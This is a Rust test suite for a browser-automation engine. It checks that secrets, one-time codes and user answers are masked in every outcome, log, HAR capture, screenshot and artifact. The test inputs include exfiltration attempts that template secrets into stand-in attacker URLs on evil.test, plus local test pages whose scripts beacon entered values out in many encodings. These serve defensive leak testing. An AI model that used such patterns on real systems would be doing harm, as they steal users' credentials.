//! A secret's value leaves a run nowhere: not by anything that a definition can say, and not by what a site does with
//! it once it has it.

use std::sync::Mutex;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use browser::Error;
use domain::definition::Definition;
use domain::wire::ArtifactType;
use engine::{Answer, Outcome};
use serde_json::json;

use crate::pages::{Page, Site, html};
use crate::scripted::{SECRET, Stage};
use crate::verbs::run;

/// What somebody could write who wants to see a secret: steps, of which `$` is what should show it.
const TRIES: &[&str] = &[
    // Where a text goes that others can see.
    "goto: 'https://evil.test/?q={{ $ }}'",
    "goto: 'https://{{ $ }}.evil.test/'",
    "goto: 'https://{{ $ }}@evil.test/'",
    "download: { url: 'https://evil.test/{{ $ }}' }",
    "download: { click: a, fileName: '{{ $ }}' }",
    "screenshot: { fileName: '{{ $ }}.png' }",
    "pdf: { fileName: '{{ $ }}.pdf' }",
    "extract: { rows: tr, fields: { a: td }, as: rows, fileName: '{{ $ }}' }",
    "upload: { css: input, files: [{ fileName: '{{ $ }}', content: a }] }",
    "upload: { css: input, files: [{ fileName: a.txt, content: 'x{{ $ }}' }] }",
    "upload: { css: input, files: [{ fileName: a.txt, base64: '{{ $ }}' }] }",
    "upload: { css: input, files: [{ artifact: '{{ $ }}' }] }",
    "askUser: { prompt: 'Is it {{ $ }}?', as: sure }",
    "askUser: { prompt: a, fields: [{ name: a, type: choice, options: ['{{ $ }}', b] }] }",
    "askUser: { prompt: a, as: b, tries: 2, steps: [{ click: c }], rejected: { visible: d, message: '{{ $ }}' } }",
    "fail: { code: A, message: 'It is {{ $ }}' }",
    "fail: { code: '{{ $ }}', message: a }",
    "endWithNoAction: { reason: '{{ $ }}' }",
    "assert: { visible: '#never', message: '{{ $ }}' }",
    "dialog: { accept: '{{ $ }}' }",
    "press: '{{ $ }}'",
    "select: { css: select, option: '{{ $ }}' }",
    "tab: { switch: '{{ $ }}' }",
    "waitFor: { response: { url: '*{{ $ }}*' }, during: [{ click: a }] }",
    // Selectors and locators: a message, a log or a site could show them.
    "click: '#a{{ $ }}'",
    "click: { css: 'a[href=\"{{ $ }}\"]' }",
    "click: { xpath: '//a[.=\"{{ $ }}\"]' }",
    "click: { text: '{{ $ }}' }",
    "click: { label: '{{ $ }}' }",
    "click: { placeholder: '{{ $ }}' }",
    "click: { testId: '{{ $ }}' }",
    "click: { role: button, name: '{{ $ }}' }",
    "click: { role: '{{ $ }}' }",
    "fill: { label: '{{ $ }}', value: a }",
    "fill: { css: a, frame: '#{{ $ }}', value: a }",
    "click: { css: a, within: { text: '{{ $ }}' } }",
    "click: [{ css: a }, { text: '{{ $ }}' }]",
    "click: { css: a, nth: '{{ $ }}' }",
    "get: { css: '{{ $ }}', as: a }",
    "waitFor: { hasText: '{{ $ }}' }",
    "waitFor: { url: '*{{ $ }}*' }",
    "click: { css: a }\n        when: { hasText: '{{ $ }}' }",
    // Variables, conditions and scripts.
    "set: { a: '{{ $ }}' }",
    "set: { a: 'x{{ $ }}' }",
    "set: { a: [{ b: '{{ $ }}' }] }",
    "set: { '{{ $ }}': 1 }",
    "evaluate: { script: args.a, args: { a: '{{ $ }}' } }",
    "evaluate: { script: '\"{{ $ }}\"', as: a }",
    "forEach: { in: '{{ $ }}', as: a, steps: [{ click: '{{ a }}' }] }",
    "forEach: { in: ['{{ $ }}'], as: a, steps: [{ click: '{{ a }}' }] }",
    "assert: { expression: '$ == \"a\"' }",
    "fail: { if: '$ == \"a\"', code: A, message: a }",
    "click: { css: a }\n        when: { expression: '\"a\" in $' }",
    "if: { expression: '$ is startingwith(\"a\")', then: [{ click: a }] }",
    "waitFor: { time: '{{ $ }}' }",
    "click: { css: a }\n        timeout: '{{ $ }}'",
    "click: { css: a }\n        id: '{{ $ }}'",
    "extract: { rows: tr, fields: { a: { css: td, default: '{{ $ }}' } }, as: rows }",
    "extract: { rows: tr, fields: { '{{ $ }}': td }, as: rows }",
    "extract: { rows: tr, fields: { a: td }, pageNumber: { goto: 'https://a.test/{{ $ }}/{{ page }}' }, as: rows }",
    // Where a secret may stand, made into something else on the way.
    "fill: { css: input, value: '{{ $ | upper }}' }",
    "fill: { css: input, value: '{{ $ ~ \"a\" }}' }",
    "fill: { css: input, value: '{{ $[0] }}' }",
    "type: { css: input, value: '{{ $ | replace(\"a\", \"b\") }}' }",
];

/// How a secret could be named so that it is not noticed.
const NAMES: &[&str] = &[
    "secrets.token",
    "secrets['token']",
    "secrets['tok' ~ 'en']",
    "secrets[input.month]",
    "secrets",
    "secrets | string",
    "secrets.token | upper",
    "secrets.token | reverse",
    "secrets.token | list | join('-')",
    "secrets.token[0]",
    "secrets.token[1:]",
    "secrets.token ~ ''",
    "secrets.token + ''",
    "[secrets.token][0]",
    "{'a': secrets.token}.a",
    "(secrets.token)",
    "(secrets).token",
    "secrets . token",
    "input.month if false else secrets.token",
    "secrets.token or 'a'",
    "secrets | items | first | last",
    "[secrets] | map(attribute='token') | first",
    "secrets.token is string",
    "secrets.token == secrets.token",
    "secrets.token | length",
    "totp(secrets.token)",
    "totp(secrets.token) | string",
    "answers.code",
    "answers | string",
    "answers['code']",
];

/// All shapes that a secret could have left in.
fn assert_hidden(left: &str, secret: &str, of: &str) {
    let reversed: String = secret.chars().rev().collect();
    let spaced: Vec<String> = secret.chars().map(String::from).collect();
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let shapes = [
        secret.to_owned(),
        reversed,
        spaced.join("-"),
        hex,
        STANDARD.encode(secret),
        URL_SAFE.encode(secret),
        // Whole words of it are as bad.
        "horse".to_owned(),
        "battery".to_owned(),
    ];
    let left = left.to_lowercase();
    for shape in shapes {
        assert!(
            !left.contains(&shape.to_lowercase()),
            "{of}: {shape} in {left}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn nothing_that_a_definition_can_say_shows_a_secret() {
    let mut refused = 0;
    let mut executed = 0;
    for step in TRIES {
        for name in NAMES {
            let step = step.replace('$', name);
            let yaml = format!(
                "name: T\nstates:\n  - name: trying\n    steps:\n      - askUser: {{ prompt: a, as: code }}\n      - {step}\n"
            );
            let Ok(_) = Definition::parse_yaml(&yaml) else {
                refused += 1;
                continue;
            };
            // What is not refused is executed, and must show nothing.
            executed += 1;
            let mut stage = Stage::new();
            let code = domain::definition::Secret::new(SECRET);
            let answer = Answer::Given([("code".to_owned(), code)].into());
            stage.host.answers.push_back(answer);
            let outcome = stage.run(&yaml).await;
            let mut left = format!("{outcome:?} {:?}", stage.story.lines());
            for artifact in &stage.host.artifacts {
                left += &artifact.name;
                left += &stage.host.bytes(artifact);
            }
            assert_hidden(&left, SECRET, &step);
        }
    }
    assert!(refused > 60 * 20, "{refused} were refused");
    assert!(executed > 0, "not all of them are nonsense");
}

#[test]
fn a_secret_is_not_taken_at_the_top_of_a_definition_either() {
    let steps = "states: [{ name: a, steps: [{ click: a }] }]\n";
    for top in [
        "output: { a: '{{ secrets.token }}' }",
        "output: { a: ['x{{ secrets.token }}'] }",
        "allowedOrigins: ['https://{{ secrets.token }}.test']",
        "browser: { headers: { X-Token: '{{ secrets.token }}' } }",
        "browser: { userAgent: '{{ secrets.token }}' }",
        "browser: { locale: '{{ secrets.token }}' }",
        "deadline: '{{ secrets.token }}'",
    ] {
        let parsed = Definition::parse_yaml(&format!("name: T\n{steps}{top}\n"));
        // Settings of the browser are no templates: there, the text would be sent as it stands.
        let is_literal =
            top.starts_with("browser: { headers") || top.starts_with("browser: { userAgent");
        assert!(parsed.is_err() || is_literal, "{top}");
    }
}

const CANARY: &str = "canary &47/11=\"w<rt\" ü%41";

/// Each way in which the canary could be written.
fn assert_no_canary(text: &str, what: &str) {
    let encoded: String = url::form_urlencoded::byte_serialize(CANARY.as_bytes()).collect();
    for shape in [
        CANARY,
        &encoded,
        &encoded.replace('+', "%20"),
        "canary &amp;47",
        "canary &47",
        "canary%20&47",
        "canary+%2647",
        "canary%20%2647",
        "canary\\u0020",
    ] {
        let shape = shape.to_lowercase();
        assert!(
            !text.to_lowercase().contains(&shape),
            "{what}: {shape} in {text}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_a_site_passes_on_is_in_nothing_that_the_run_leaves() {
    let site = Site::start(|path| {
        if path == "/" {
            return Some(html(
                "<form action=/next method=get><label>Token <input name=t></label><button>Send</button></form>
                 <script>document.querySelector('input').oninput = (event) => { document.title = event.target.value; document.cookie = 'token=' + encodeURIComponent(event.target.value); console.log(event.target.value); fetch('/beacon', { method: 'POST', headers: { 'x-token': encodeURIComponent(event.target.value) }, body: event.target.value }); }</script>",
            ));
        }
        if path.starts_with("/next?t=") {
            // The page shows what it got, in a text, in an attribute, in a link and as the name of a download.
            return Some(html(
                "<p id=echo></p><a id=link>link</a><a id=file>file</a><input id=field>
                 <script>const t = new URLSearchParams(location.search).get('t');
                 echo.textContent = t; echo.title = t; link.href = '/next?t=' + encodeURIComponent(t); field.value = t;
                 file.href = 'data:text/plain,hello'; file.download = t + '.txt';</script>",
            ));
        }
        (path == "/beacon").then(|| Page {
            content_type: "text/plain",
            body: "thank you".to_owned(),
            headers: "",
        })
    })
    .await;
    let yaml = r##"
name: Canary
har: always
states:
  - name: leaking
    steps:
      - goto: "{{ input.url }}/"
      - fill: { label: Token, value: "{{ secrets.canary }}" }
      - waitFor:
          response: { url: "*/next*" }
          during: [{ click: { role: button, name: Send } }]
          as: reply
      - get: { css: "#echo", as: text }
      - get: { css: "#echo", attribute: title, as: title }
      - get: { css: "#echo", type: html, as: html }
      - get: { css: "#link", type: link, as: link }
      - get: { css: "#field", type: value, as: field }
      - evaluate: { script: "({ href: location.href, cookie: document.cookie, list: [echo.textContent] })", as: script }
      - extract: { rows: body, fields: { text: p, link: { css: "#link", type: link }, all: { css: p, type: list, of: html } }, as: rows }
      - download: { click: "#file", as: file }
      - screenshot:
      - pdf:
      - askUser: { prompt: "Is {{ text }} right, at {{ link }}?", as: sure, type: confirmation }
      - waitFor: { url: "*nowhere*" }
        timeout: 50ms
        onError: { as: error }
      - set: { kept: { text: "{{ text }}", all: "{{ [title, html, link, field, script, rows, file, reply, error] }}" } }
      - goto: "{{ link }}"
        onError: continue
      - click: { text: "{{ text }}, and more" }
        timeout: 50ms
output: { kept: "{{ kept }}" }
"##;
    let (outcome, host) = run(
        &site,
        yaml,
        [("canary", CANARY)],
        [Answer::Given(
            [("sure".to_owned(), domain::definition::Secret::new("yes"))].into(),
        )],
    )
    .await;
    let Outcome::Failed(failure) = &outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(
        failure.step.as_deref(),
        Some("leaking/steps/17 (click)"),
        "{failure:?}"
    );
    assert_no_canary(&format!("{outcome:?}"), "the outcome");
    assert_no_canary(
        &format!("{:?} {:?}", host.story.lines(), host.asked),
        "the question",
    );
    let kinds: Vec<_> = host
        .artifacts
        .iter()
        .map(|artifact| artifact.artifact_type)
        .collect();
    for kind in [
        ArtifactType::ExtractedData,
        ArtifactType::Download,
        ArtifactType::Screenshot,
        ArtifactType::Pdf,
        ArtifactType::Har,
        ArtifactType::Dom,
        ArtifactType::Log,
    ] {
        assert!(kinds.contains(&kind), "{kind:?}: {kinds:?}");
    }
    for artifact in &host.artifacts {
        assert_no_canary(&artifact.name, "a name");
        assert_no_canary(&host.bytes(artifact), &artifact.name);
    }
    let har = host.text("network.har");
    assert!(
        har.contains("/next?t=•••"),
        "what was masked was there: {har}"
    );
}

/// A page that gets values by its fields and passes them on in all shapes that it can think of.
const ENCODER: &str = r#"<title>Encoder</title><form><label>Value <input id=value></label></form>
<div id=out></div><a id=file>file</a><a id=blob>blob</a><table><tbody id=rows></tbody></table>
<script>
const html = (s) => s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
const bytes = (s) => [...new TextEncoder().encode(s)];
const base64 = (s) => btoa(String.fromCharCode(...bytes(s)));
const shapes = (s) => ({
  plain: s, upper: s.toUpperCase(), reversed: [...s].reverse().join(''),
  basic: 'Basic ' + base64('user:' + s), basic2: base64('us:' + s + '!'), basic3: base64(s),
  url: base64(s).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
  hex: bytes(s).map((b) => b.toString(16).padStart(2, '0')).join(''),
  percent: encodeURIComponent(s), twice: encodeURIComponent(encodeURIComponent(s)), old: escape(s),
  form: new URLSearchParams({ s }).toString(), json: JSON.stringify({ s }), jsonTwice: JSON.stringify(JSON.stringify({ s })),
  decimal: [...s].map((c) => `&#${c.codePointAt(0)};`).join(''), entities: [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join(''),
  script: [...s].map((c) => '\\x' + c.charCodeAt(0).toString(16)).join(''), units: [...s].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''),
  csv: '"' + s.replaceAll('"', '""') + '"', css: CSS.escape(s), tags: [...s].map((c) => `<b>${html(c)}</b>`).join(''),
});
value.onchange = value.oninput = () => {
  const s = value.value;
  const all = shapes(s);
  window.all = all;
  document.title = s;
  out.innerHTML = Object.entries(all).map(([n, t]) => `<p class="${n}" data-x="${html(t)}">${html(t)}</p>`).join('') + `<div id=bold>${all.tags}</div>`
    + `<input type=hidden value="${html(all.basic)}">` + [...s].map((c) => `<i class=char>${html(c)}</i>`).join('\n');
  rows.innerHTML = [...s].map((c) => `<tr><td>${html(c)}</td><td>x</td></tr>`).join('');
  file.href = 'data:text/plain,x'; file.download = all.url + '.txt';
  blob.href = URL.createObjectURL(new Blob(Object.values(all).map((t) => t + '\n'))); blob.download = 'blob.txt';
  for (const [n, t] of Object.entries(all)) document.cookie = `${n}=${encodeURIComponent(t)}`;
  console.log(all);
  // Headers are Latin-1, and some values can't be sent.
  const headers = new Headers();
  for (const [n, t] of Object.entries(all)) try { headers.set('x-' + n, t) } catch {}
  try { headers.set('x-' + all.hex, 'a name') } catch {}
  fetch('/beacon?' + new URLSearchParams(all) + '&raw=' + all.percent + '&b=' + all.basic3, { method: 'POST', headers, body: JSON.stringify(all) });
  fetch('/path/' + all.percent + '/' + all.url, { method: 'POST', body: new URLSearchParams(all) });
};
</script>"#;

/// All shapes of a value that the encoder makes, and some parts of them.
fn encodings(value: &str) -> Vec<String> {
    let percent = |text: &str| -> String {
        let form: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        form.replace('+', "%20")
    };
    let in_html = |c: char| match c {
        '&' => "&amp;".to_owned(),
        '<' => "&lt;".to_owned(),
        '>' => "&gt;".to_owned(),
        '"' => "&quot;".to_owned(),
        c => c.to_string(),
    };
    let mut shapes = vec![
        value.to_owned(),
        // As an element's HTML has it, and as a copy of the DOM does.
        value
            .chars()
            .map(|c| {
                format!(
                    "<b>{}</b>",
                    if c == '"' { c.to_string() } else { in_html(c) }
                )
            })
            .collect(),
        value.chars().rev().collect(),
        value.bytes().map(|byte| format!("{byte:02x}")).collect(),
        percent(value),
        percent(&percent(value)),
        value
            .chars()
            .map(|c| format!("&#{};", u32::from(c)))
            .collect(),
        value
            .chars()
            .map(|c| format!("&#x{:x};", u32::from(c)))
            .collect(),
        value
            .chars()
            .map(|c| format!("\\u{:04x}", u32::from(c)))
            .collect(),
        value
            .chars()
            .map(|c| format!("\\x{:x}", u32::from(c)))
            .collect(),
        value
            .chars()
            .map(|c| format!("<b>{}</b>", in_html(c)))
            .collect(),
        value.replace('"', "\"\""),
        value
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('"', "&quot;"),
        json!(value).to_string().trim_matches('"').to_owned(),
    ];
    for before in ["user:", "us:", ""] {
        let encoded = STANDARD.encode(format!("{before}{value}"));
        // What holds the bytes of the value and no others.
        let own = encoded[(before.len() * 8).div_ceil(6)..(before.len() + value.len()) * 8 / 6]
            .to_owned();
        shapes.push(own.replace('+', "-").replace('/', "_"));
        shapes.push(own.replace('+', "%2B").replace('/', "%2F"));
        shapes.push(own);
    }
    shapes
}

fn assert_not_encoded(text: &str, values: &[&str], what: &str) {
    let text = text.to_lowercase();
    for value in values {
        for shape in encodings(value) {
            let shape = shape.to_lowercase();
            let found = text.find(&shape).map(|at| {
                let near = at.saturating_sub(60)..(at + 100).min(text.len());
                String::from_utf8_lossy(&text.as_bytes()[near]).into_owned()
            });
            assert!(found.is_none(), "{what}: {shape} in {found:?}");
        }
    }
}

/// One-time codes that the encoder's page was given, as it told its site.
static CODES: Mutex<Vec<String>> = Mutex::new(Vec::new());

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_one_time_code_is_a_secret_like_any_other() {
    let site = Site::start(|path| {
        let told = path.strip_prefix("/beacon?plain=");
        if let Some((code, _)) = told.and_then(|told| told.split_once('&')) {
            CODES
                .lock()
                .expect("no panic while it is held")
                .push(code.to_owned());
        }
        Some(html(ENCODER))
    })
    .await;
    let yaml = r##"
name: Code
har: always
states:
  - name: entering
    steps:
      - goto: "{{ input.url }}/"
      - waitFor:
          response: { url: "*/beacon*" }
          during: [{ fill: { label: Value, value: "{{ totp(secrets.key) }}" } }]
          as: reply
      - evaluate: { script: "[all, Number(value.value), document.cookie]", as: all }
      - get: { css: "#value", type: value, as: field }
      - get: { css: ".plain", type: number, as: number }
        onError: continue
      - get: { css: "#bold", type: html, as: html }
      - download: { click: "#blob" }
      - assert: { hasText: nowhere, message: "{{ all }} {{ field }} {{ html }}" }
"##;
    let key = [("key", "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ")];
    let yaml = yaml.replace("{{ all }} {{ field }}", "{{ all | string }} {{ field }}");
    let (outcome, host) = run(&site, &yaml, key, []).await;
    let Outcome::Failed(failure) = &outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(
        failure.step.as_deref(),
        Some("entering/steps/7 (assert)"),
        "{failure:?}"
    );
    let mut codes = CODES.lock().expect("no panic while it is held").clone();
    codes.dedup();
    let [code] = codes.as_slice() else {
        panic!("{codes:?}")
    };
    assert_eq!(code.len(), 6, "{code}");
    let mut left = vec![("the outcome", format!("{outcome:?}"))];
    left.extend(
        host.artifacts
            .iter()
            .map(|artifact| (artifact.name.as_str(), host.bytes(artifact))),
    );
    for (what, text) in left {
        let text = text.to_lowercase();
        // A short value is not looked for backwards.
        let backwards: String = code.chars().rev().collect();
        for shape in encodings(code).iter().filter(|shape| **shape != backwards) {
            assert!(
                !text.contains(&shape.to_lowercase()),
                "{what}: {shape} in {text}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_a_page_encodes_is_in_nothing_that_the_run_leaves() {
    let site = Site::start(|path| {
        Some(if path == "/" {
            html(ENCODER)
        } else {
            Page {
                content_type: "text/plain",
                body: "thank you".to_owned(),
                headers: "",
            }
        })
    })
    .await;
    let stored = "s3cret/Käfer?47+11=\"w<rt&";
    let answered = "An0ther\\'P4ss wörd>";
    let steps = r##"
      - evaluate: { script: "all", as: script_N }
      - evaluate: { script: "[...value.value]", as: characters_N }
      - evaluate: { script: "({ a: value.value.slice(0, 5), b: value.value.slice(5), c: [value.value.slice(0, 9), value.value.slice(9)] })", as: halves_N }
      - evaluate: { script: "document.cookie", as: cookies_N }
      - get: { css: "#bold", type: html, as: html_N }
      - get: { css: "#out", type: html, as: all_N }
      - get: { css: "#value", type: value, as: field_N }
      - forEach:
          elements: ".char"
          as: char
          steps: [{ set: { last_N: "{{ char.text }}" } }]
      - extract: { rows: "#out p", fields: { text: { type: html }, x: { attribute: data-x } }, as: rows_N }
      - extract: { rows: "#rows tr", fields: { c: "td:first-child", d: "td:last-child" }, as: column_N }
      - extract: { rows: "#out", fields: { all: { css: i, type: list }, html: { css: "#bold", type: html } }, as: cells_N }
      - download: { click: "#file", as: file_N }
      - download: { click: "#blob", as: blob_N }
      - screenshot: { fileName: "{{ field_N }}.png" }
        onError: continue
      - click: { css: "#out p, #out i" }
        timeout: 50ms
        onError: { as: ambiguous_N }
      - waitFor: { visible: { role: button, name: "{{ script_N.plain }}" } }
        timeout: 50ms
        onError: { as: awaited_N }
      - pdf:
"##;
    let kept = |n: &str| {
        let names = [
            "script",
            "characters",
            "halves",
            "cookies",
            "html",
            "all",
            "field",
            "rows",
            "column",
            "cells",
            "file",
            "blob",
            "ambiguous",
            "awaited",
        ];
        let names: Vec<_> = names.iter().map(|name| format!("{name}_{n}")).collect();
        format!("\"{{{{ [{}] }}}}\"", names.join(", "))
    };
    let yaml = format!(
        r##"
name: Encoded
har: always
states:
  - name: stored
    steps:
      - goto: "{{{{ input.url }}}}/"
      - fill: {{ label: Value, value: "{{{{ secrets.stored }}}}" }}
{}
  - name: answered
    steps:
      - askUser: {{ prompt: a, as: code, type: password }}
      - fill: {{ label: Value, value: "{{{{ answers.code }}}}" }}
{}
      - assert: {{ hasText: nowhere, message: "It is {{{{ field_1 }}}} and {{{{ html_2 }}}}, {{{{ halves_2.a }}}}{{{{ halves_2.b }}}}" }}
output: {{ one: {}, two: {} }}
"##,
        steps.replace("_N", "_1"),
        steps.replace("_N", "_2"),
        kept("1"),
        kept("2"),
    );
    let with_output = yaml.replace(
        "      - assert: { hasText: nowhere, message: \"It is {{ field_1 }} and {{ html_2 }}, {{ halves_2.a }}{{ halves_2.b }}\" }\n",
        "",
    );
    let values = [stored, answered];
    for yaml in [&yaml, &with_output] {
        let given = domain::definition::Secret::new(answered);
        let answer = Answer::Given([("code".to_owned(), given)].into());
        let (outcome, host) = run(&site, yaml, [("stored", stored)], [answer]).await;
        match &outcome {
            Outcome::Failed(failure) => assert_eq!(
                failure.step.as_deref(),
                Some("answered/steps/19 (assert)"),
                "{failure:?}"
            ),
            outcome => assert!(matches!(outcome, Outcome::Completed { .. }), "{outcome:?}"),
        }
        assert_not_encoded(&format!("{outcome:?}"), &values, "the outcome");
        assert_not_encoded(
            &format!("{:?} {:?}", host.story.lines(), host.asked),
            &values,
            "the question",
        );
        let log = host.text("log.jsonl");
        assert!(log.contains("•••"), "{log}");
        for artifact in &host.artifacts {
            assert_not_encoded(&artifact.name, &values, "a name");
            assert_not_encoded(&host.bytes(artifact), &values, &artifact.name);
        }
        let har = host.text("network.har");
        assert!(
            har.contains("/beacon?plain=•••") && har.contains("\"x-basic\""),
            "{har}"
        );
        let downloaded = host.text("blob.txt");
        assert!(
            downloaded.starts_with("•••\n•••\n•••\nBasic dXNlcj•••\n"),
            "{downloaded}"
        );
        let column = host.text("column_1.json");
        assert_eq!(
            column.matches("•••").count(),
            stored.chars().count(),
            "{column}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_was_read_in_two_steps_is_masked_where_its_parts_come_together() {
    let site = Site::start(|_| Some(html("<label>Value <input id=value></label>"))).await;
    let yaml = r##"
name: Parts
states:
  - name: reading
    steps:
      - goto: "{{ input.url }}/"
      - fill: { label: Value, value: "{{ secrets.token }}" }
      - evaluate: { script: "value.value.slice(0, 7)", as: one }
      - evaluate: { script: "value.value.slice(7)", as: two }
      - set: { whole: "{{ one }}{{ two }}", length: "{{ (one ~ two) | length }}" }
      - screenshot: { fileName: "{{ one }}{{ two }}.png" }
output: { one: "{{ one }}", list: ["{{ two }}"], whole: "{{ whole }}", joined: "{{ one ~ two }}" }
"##;
    let (outcome, host) = run(&site, yaml, [("token", "swordfish-4711")], []).await;
    let Outcome::Completed { output } = &outcome else {
        panic!("{outcome:?}")
    };
    let masked = json!({"one": "•••", "list": ["•••"], "whole": "•••", "joined": "•••"});
    assert_eq!(output.as_ref(), Some(&masked));
    assert_eq!(host.names()[0], "•••.png");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_picture_tells_one_secret_from_another() {
    let site = Site::start(|path| {
        (path == "/").then(|| {
            html(
                "<style>* { font: 16px monospace; caret-color: transparent }</style><input id=a><p id=echo></p>
                 <script>
                 // It shows what was entered, first as it is and then its end only, in fields that come anew each time.
                 document.oninput = (event) => {
                   const value = event.target.value;
                   echo.innerHTML = [...value].map((c) => `<b>${c}</b>`).join('');
                   event.target.outerHTML = `<input id=b value='${value}'>`;
                 };
                 document.onkeydown = (event) => { if (event.key === 'End') { const field = document.querySelector('input'); field.id = 'c'; field.value = '*' + field.value.slice(-1) } };
                 </script>",
            )
        })
    })
    .await;
    let yaml = r##"
name: Pictures
states:
  - name: entering
    steps:
      - goto: "{{ input.url }}/"
      - fill: { css: "#a", value: "{{ secrets.token }}" }
      - screenshot: { fullPage: true }
      - askUser: { prompt: a, as: ready, type: confirmation }
      - fill: { css: "#b", value: "{{ totp(secrets.key) }}" }
      - evaluate: { script: "echo.remove()" }
      - type: { css: "#b", value: "{{ secrets.token }}" }
      - press: { key: End }
      - screenshot: { fileName: end.png }
      - assert: { visible: "#never" }
"##;
    let mut pictures = Vec::new();
    for token in ["swordfish-1", "cuttlefish2"] {
        let ready = domain::definition::Secret::new("yes");
        let answer = Answer::Given([("ready".to_owned(), ready)].into());
        let secrets = [
            ("token", token),
            ("key", "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"),
        ];
        let (outcome, host) = run(&site, yaml, secrets, [answer]).await;
        let Outcome::Failed(failure) = &outcome else {
            panic!("{outcome:?}")
        };
        assert_eq!(
            failure.step.as_deref(),
            Some("entering/steps/9 (assert)"),
            "{failure:?}"
        );
        let kept = host
            .artifacts
            .iter()
            .filter(|artifact| artifact.artifact_type == ArtifactType::Screenshot);
        let kept: Vec<_> = kept
            .map(|artifact| artifact.body.clone())
            .chain(host.shown)
            .collect();
        assert_eq!(kept.len(), 4);
        pictures.push(kept);
    }
    for (number, picture) in pictures[0].iter().enumerate() {
        assert!(
            *picture == pictures[1][number],
            "picture {number} shows the secret"
        );
    }
}

#[tokio::test]
async fn errors_of_the_browser_that_hold_a_secret_are_masked() {
    let mut stage = Stage::new();
    let target = browser::Locator::css("input");
    let error = Error::NotActionable {
        locator: target.to_string(),
        after: std::time::Duration::from_secs(1),
        reason: format!("it is covered by <p>{SECRET}</p>"),
    };
    stage
        .browser
        .errors
        .insert(format!("click {target}"), error);
    let yaml = "name: T\nstates: [{ name: a, steps: [{ fill: { css: b, value: '{{ secrets.token }}' } }, { click: input }] }]\n";
    let outcome = stage.run(yaml).await;
    assert_hidden(
        &format!("{outcome:?} {}", stage.host.text("log.jsonl")),
        SECRET,
        "an error",
    );
    assert_eq!(
        json!(format!("{outcome:?}").contains("covered by <p>•••</p>")),
        true
    );
}
